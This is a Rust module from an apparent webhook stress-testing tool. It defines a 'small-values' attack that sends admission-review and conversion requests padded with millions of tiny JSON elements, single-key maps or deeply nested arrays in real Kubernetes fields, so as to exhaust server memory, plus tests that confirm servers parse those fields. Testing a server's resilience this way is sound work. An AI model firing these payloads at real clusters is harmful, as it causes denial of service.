//! Sends reviews with very many small values.

use super::{Attack, LARGEST, admission, conversion};
use crate::{aim::Aim, requests::Requests, target::Target};
use anyhow::Result;
use futures::FutureExt as _;
use tokio::io::AsyncWriteExt;

pub(super) const ATTACK: Attack = Attack {
    name: "small-values",
    about: "Sends reviews with up to millions of small values",
    targets: &[Target::Webhooks],
    attackers: 8,
    leaves_answers: false,
    other_honest: None,
    once: |aim| once(aim).boxed(),
};

async fn once(aim: Aim) -> Result<()> {
    let mut stream = aim.connect().await?;
    let post = aim.requests.any_post();
    let is_conversion = post.starts_with("POST /convert ");
    // A server refuses more values than it has memory for, so each order of magnitude has to be tried.
    let bytes = fastrand::usize(LARGEST / 2..LARGEST - 1024) >> fastrand::u32(..9);
    let first = if fastrand::bool() { deep() } else { "{}".to_owned() };
    let body = match REVIEWED.get(fastrand::usize(..=REVIEWED.len())) {
        _ if is_conversion => conversion(&list_of(CONVERTED, bytes)),
        Some((field, value)) => review(field, &list_of(value, bytes).replacen("{}", &first, 1)),
        None => review(WITH_ANY_JSON, &maps(bytes)),
    };
    stream.write_all(Requests::with_body(&post, &body).as_bytes()).await?;
    aim.hold(stream).await;
    Ok(())
}

/// An object that has the wanted version, so that the server reads the whole list.
const CONVERTED: &str = "{\"apiVersion\":\"a/v1\"}";
/// A list whose elements have a field that may hold any JSON.
const WITH_ANY_JSON: &str = "metadata.managedFields";
/// A list that only the kind of [`crate::serve`] has.
const OF_LIBRARY: &str = "spec.numbers";
/// Lists of our kinds, and of every object, whose elements need more memory than text.
const REVIEWED: [(&str, &str); 7] = [
    (OF_LIBRARY, "0"),
    ("spec.config.extraArgs", "\"\""),
    ("spec.volumes", "{}"),
    ("spec.topologySpreadConstraints", "{}"),
    ("metadata.finalizers", "\"\""),
    ("metadata.ownerReferences", "{}"),
    ("metadata.managedFields", "{}"),
];

/// A list of about this many bytes, all of whose elements are this value.
fn list_of(value: &str, bytes: usize) -> String {
    format!("[{value}{}]", format!(",{value}").repeat(bytes / (value.len() + 1)))
}

/// An element with an unknown field, which a decoder skips however deep it is. The other elements still need memory.
fn deep() -> String {
    const DEPTH: usize = 200;
    format!("{{\"unknown\":{}{}}}", "[".repeat(DEPTH), "]".repeat(DEPTH))
}

/// A list of one element with about this many bytes of maps that have a single key.
fn maps(bytes: usize) -> String {
    const LENGTH: usize = 14;
    let maps: Vec<String> = (0..bytes / LENGTH).map(|n| format!("\"{n:x}\":{{\"\":0}}")).collect();
    format!("[{{\"fieldsV1\":{{{}}}}}]", maps.join(","))
}

/// A review of an object with this field, which has dots between its parts.
fn review(field: &str, list: &str) -> String {
    let other = if field.starts_with("spec.") { "metadata" } else { "spec" };
    let field = field.rsplit('.').fold(list.to_owned(), |inner, part| format!("{{\"{part}\":{inner}}}"));
    admission(&format!("{{\"apiVersion\":\"a/v1\",\"kind\":\"A\",\"{other}\":{{}},{}", &field[1..]))
}

#[cfg(test)]
mod tests {
    use k8s_openapi::apimachinery::pkg::apis::meta::v1::ManagedFieldsEntry;
    use serde_json::Value;

    use super::*;
    use crate::attacks::schemas;

    #[test]
    fn servers_read_the_lists() {
        for (field, value) in REVIEWED {
            let body: Value = serde_json::from_str(&review(field, &format!("[{value}]"))).expect("JSON");
            let object = &body["request"]["object"];
            let list = &object.pointer(&format!("/{}", field.replace('.', "/"))).expect("the field");
            assert_eq!((&body["kind"], list.as_array().map(Vec::len)), (&"AdmissionReview".into(), Some(1)), "{field}");
        }
        serde_json::from_str::<ManagedFieldsEntry>(&deep()).expect("a decoder skips the field");
        let body: Value = serde_json::from_str(&review(WITH_ANY_JSON, &maps(100))).expect("JSON");
        let fields = &body["request"]["object"]["metadata"]["managedFields"][0]["fieldsV1"];
        assert_eq!((&fields["0"], &fields["6"]), (&serde_json::json!({"": 0}), &serde_json::json!({"": 0})));
        let body: Value = serde_json::from_str(&conversion(&list_of(CONVERTED, 0))).expect("JSON");
        assert_eq!(body["request"]["objects"][0]["apiVersion"], body["request"]["desiredAPIVersion"]);
    }

    /// A field that no kind has would be skipped by every decoder.
    #[test]
    fn fields_of_specs_exist() {
        let schemas = schemas();
        for (field, _) in REVIEWED.iter().filter(|(field, _)| field.starts_with("spec.") && *field != OF_LIBRARY) {
            let path = format!("/properties/{}", field.replace('.', "/properties/"));
            let is_list = |schema: &Value| schema.pointer(&path).is_some_and(|it| it["type"] == "array");
            assert!(schemas.iter().any(is_list), "no kind has {field}");
        }
    }
}
